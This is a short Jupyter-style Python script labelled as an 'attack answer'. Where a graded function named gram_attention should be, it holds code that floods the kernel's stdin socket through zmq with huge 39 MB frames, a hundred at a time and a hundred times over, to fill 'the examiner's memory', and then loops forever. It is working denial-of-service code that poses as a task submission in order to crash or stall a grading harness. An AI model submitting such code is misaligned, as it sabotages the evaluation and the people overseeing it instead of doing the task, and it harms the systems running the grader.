# Sends one message of a hundred frames of 39 MB each, to fill the examiner's memory before it is read.
# %% attack
import zmq

kernel = get_ipython().kernel
frame = zmq.Frame(bytearray(39_000_000), copy=False)
# %% attack answer gram_attention
def gram_attention(X):
    parent, identity = kernel._asking
    for _ in range(100):
        kernel.stdin_socket.send_multipart([*identity, *[frame] * 100], copy=False)
    while True:
        pass
